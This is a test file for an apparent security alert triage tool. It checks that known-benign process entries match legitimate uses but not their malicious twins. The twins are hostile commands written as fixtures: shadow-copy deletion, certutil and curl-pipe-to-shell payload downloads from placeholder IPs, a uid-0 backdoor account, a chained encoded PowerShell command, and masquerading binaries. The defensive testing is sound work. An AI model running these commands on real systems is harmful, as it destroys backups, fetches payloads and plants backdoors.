// Every known-benign entry with its benign use and a malicious twin (same binary, another
// variant, parent, signer, path or host role) that must not match.
import type { Alert } from '../../src/domain/alert';
import { explainProcesses, matchEntry } from '../../src/analyzers/known-benign';
import { KNOWN_BENIGN } from '../../src/analyzers/data/known-benign';

type P = Alert['observables']['processes'][number];
const proc = (p: Partial<P>, parents: Partial<P>[] = []): P => ({ ...p, parents: parents as P[] }) as P;
const entry = (id: string) => KNOWN_BENIGN.find((e) => e.id === id)!;
const none = new Set<string>();
const jump = new Set(['jump-host']);
const ci = new Set(['ci-runner']);
const SCCM = { path: 'C:\\Windows\\CCM\\CcmExec.exe' };

const cases: { id: string; roles: Set<string>; benign: P; twin: P; why: string }[] = [
  {
    id: 'vssadmin-resize-by-agent',
    roles: none,
    why: 'delete shadows is the ransomware variant',
    benign: proc(
      { path: 'C:\\Windows\\System32\\vssadmin.exe', commandLine: 'vssadmin.exe Resize ShadowStorage /For=D: /On=D: /MaxSize=15%' },
      [{ path: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe' }, SCCM],
    ),
    twin: proc({ path: 'C:\\Windows\\System32\\vssadmin.exe', commandLine: 'vssadmin.exe delete shadows /all /quiet' }, [SCCM]),
  },
  {
    id: 'vssadmin-resize-by-agent',
    roles: none,
    why: 'shrinking to a few MB from a user shell drops the copies',
    benign: proc(
      { path: 'C:\\Windows\\System32\\vssadmin.exe', commandLine: 'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=unbounded' },
      [SCCM],
    ),
    twin: proc(
      { path: 'C:\\Windows\\System32\\vssadmin.exe', commandLine: 'vssadmin resize shadowstorage /for=C: /on=C: /maxsize=401MB' },
      [{ path: 'C:\\Windows\\System32\\cmd.exe' }],
    ),
  },
  {
    id: 'certutil-hashfile',
    roles: none,
    why: '-urlcache -f downloads a payload',
    benign: proc({ path: 'C:\\Windows\\System32\\certutil.exe', commandLine: 'certutil -hashfile \\\\fs\\it$\\iso\\server.iso SHA256' }),
    twin: proc({ path: 'C:\\Windows\\System32\\certutil.exe', commandLine: 'certutil -urlcache -f http://203.0.113.9/a.exe a.exe' }),
  },
  {
    id: 'certutil-encode-certificate',
    roles: jump,
    why: 'encoding an executable is payload staging',
    benign: proc({
      path: 'C:\\Windows\\System32\\certutil.exe',
      commandLine: '"C:\\Windows\\system32\\certutil.exe" -encode D:\\PKI\\ca.cer D:\\PKI\\ca-b64.cer',
    }),
    twin: proc({
      path: 'C:\\Windows\\System32\\certutil.exe',
      commandLine: 'certutil -encode C:\\Users\\Public\\beacon.exe C:\\Users\\Public\\b.txt',
    }),
  },
  {
    id: 'werfault-crash-dump',
    roles: none,
    why: 'an unsigned WerFault copy in Temp is masquerading',
    benign: proc({
      path: 'C:\\Windows\\System32\\WerFault.exe',
      signer: 'Microsoft Windows',
      commandLine: 'C:\\Windows\\system32\\WerFault.exe -u -p 6124 -s 2204',
    }),
    twin: proc({ path: 'C:\\Users\\x\\AppData\\Local\\Temp\\WerFault.exe', commandLine: 'WerFault.exe -u -p 6124 -s 2204' }),
  },
  {
    id: 'google-updater-task',
    roles: none,
    why: "the same name from AppData is not Google's updater",
    benign: proc({ path: 'C:\\Program Files (x86)\\Google\\GoogleUpdater\\131.0.6769.0\\updater.exe', signer: 'Google LLC' }),
    twin: proc({ path: 'C:\\Users\\x\\AppData\\Roaming\\Google\\updater.exe', signer: 'Google LLC' }),
  },
  {
    id: 'edge-update-task',
    roles: none,
    why: 'unsigned MicrosoftEdgeUpdate.exe under AppData is persistence',
    benign: proc({ path: 'C:\\Program Files (x86)\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe', signer: 'Microsoft Corporation' }),
    twin: proc({ path: 'C:\\Users\\x\\AppData\\Local\\Microsoft\\EdgeUpdate\\MicrosoftEdgeUpdate.exe' }),
  },
  {
    id: 'mozilla-default-browser-agent',
    roles: none,
    why: "outside the Firefox folder it is not Mozilla's agent",
    benign: proc({ path: 'C:\\Program Files\\Mozilla Firefox\\default-browser-agent.exe' }),
    twin: proc({ path: 'C:\\ProgramData\\Mozilla\\default-browser-agent.exe' }),
  },
  {
    id: 'psexec-from-jump-host',
    roles: jump,
    why: 'the same signed PsExec on a workstation is lateral movement',
    benign: proc({
      path: 'C:\\Tools\\Sysinternals\\PsExec64.exe',
      signer: 'Microsoft Corporation',
      commandLine: 'PsExec64.exe \\\\srv -s cmd /c "net stop spooler"',
    }),
    twin: proc({ path: 'C:\\Tools\\Sysinternals\\PsExec64.exe', commandLine: 'PsExec64.exe \\\\srv -s cmd' }),
  },
  {
    id: 'official-installer-in-ci',
    roles: ci,
    why: 'an unknown host piped into a shell is a download cradle',
    benign: proc({
      path: '/usr/bin/curl',
      commandLine: 'curl --proto =https --tlsv1.2 -sSf https://sh.rustup.rs | sh -s -- -y --profile minimal',
    }),
    twin: proc({ path: '/usr/bin/curl', commandLine: 'curl -sSf http://203.0.113.5/x.sh | sh' }),
  },
  {
    id: 'package-manager-system-account',
    roles: none,
    why: 'a uid-0 account from a shell is a backdoor',
    benign: proc(
      {
        path: '/usr/sbin/useradd',
        commandLine: 'useradd --system --home-dir /var/lib/postgresql --shell /bin/bash --no-create-home postgres',
      },
      [{ path: '/usr/sbin/adduser' }, { path: '/usr/bin/dpkg' }],
    ),
    twin: proc({ path: '/usr/sbin/useradd', commandLine: 'useradd -o -u 0 -g 0 support' }, [{ path: '/bin/bash' }]),
  },
  {
    id: 'firefox-default-browser-agent-task',
    roles: none,
    why: 'the same name dropped in a user folder is persistence',
    benign: proc({
      path: 'C:\\Program Files\\Mozilla Firefox\\default-browser-agent.exe',
      commandLine: '"C:\\Program Files\\Mozilla Firefox\\default-browser-agent.exe" do-task "308046B0AF4A39CB"',
    }),
    twin: proc({
      path: 'C:\\Users\\x\\AppData\\Roaming\\default-browser-agent.exe',
      commandLine: '"C:\\Users\\x\\AppData\\Roaming\\default-browser-agent.exe" do-task "308046B0AF4A39CB"',
    }),
  },
  {
    id: 'firefox-default-browser-agent-task',
    roles: none,
    why: 'other arguments are not the registered task',
    benign: proc({
      path: 'C:\\Program Files\\Mozilla Firefox\\default-browser-agent.exe',
      commandLine: '"C:\\Program Files\\Mozilla Firefox\\default-browser-agent.exe" do-task 308046B0AF4A39CB',
    }),
    twin: proc({
      path: 'C:\\Program Files\\Mozilla Firefox\\default-browser-agent.exe',
      commandLine: '"C:\\Program Files\\Mozilla Firefox\\default-browser-agent.exe" do-task "308046B0AF4A39CB" & powershell -enc AAAA',
    }),
  },
];

describe('known-benign table', () => {
  it.each(cases)('$id: benign use matches, twin does not ($why)', ({ id, roles, benign, twin }) => {
    expect(matchEntry(entry(id), benign, roles)).toBe(true);
    expect(matchEntry(entry(id), twin, roles)).toBe(false);
  });

  it('covers every entry with a twin and names a source for each', () => {
    for (const e of KNOWN_BENIGN) {
      expect(cases.some((c) => c.id === e.id)).toBe(true);
      expect(e.source.length).toBeGreaterThan(10);
    }
  });

  it('the host role is required: the CI installer on a workstation and PsExec off the jump host do not match', () => {
    expect(matchEntry(entry('official-installer-in-ci'), cases.find((c) => c.id === 'official-installer-in-ci')!.benign, none)).toBe(false);
    expect(matchEntry(entry('psexec-from-jump-host'), cases.find((c) => c.id === 'psexec-from-jump-host')!.benign, none)).toBe(false);
  });

  it('extra commands after an allowed variant break the match (anchored arguments)', () => {
    const chained = proc({
      path: 'C:\\Windows\\System32\\certutil.exe',
      commandLine: 'certutil -hashfile a.iso SHA256 & certutil -urlcache -f http://x/a a',
    });
    expect(matchEntry(entry('certutil-hashfile'), chained, none)).toBe(false);
  });

  it("the system folder matches in the EDR's NT device-path form too, and only the system folder", () => {
    const at = (path: string) => proc({ path, commandLine: 'certutil.exe -hashfile a.iso SHA256' });
    expect(matchEntry(entry('certutil-hashfile'), at('\\Device\\HarddiskVolume2\\Windows\\System32\\certutil.exe'), none)).toBe(true);
    expect(matchEntry(entry('certutil-hashfile'), at('\\Device\\HarddiskVolume2\\Users\\x\\certutil.exe'), none)).toBe(false);
  });

  it('explains an alert only when every process is explained', () => {
    const both = [cases[2].benign, cases[2].twin];
    expect(explainProcesses(both, none)).toMatchObject({ unexplained: 1 });
    expect(explainProcesses([cases[2].benign], none)).toMatchObject({ unexplained: 0, matches: [{ entry: { id: 'certutil-hashfile' } }] });
  });
});
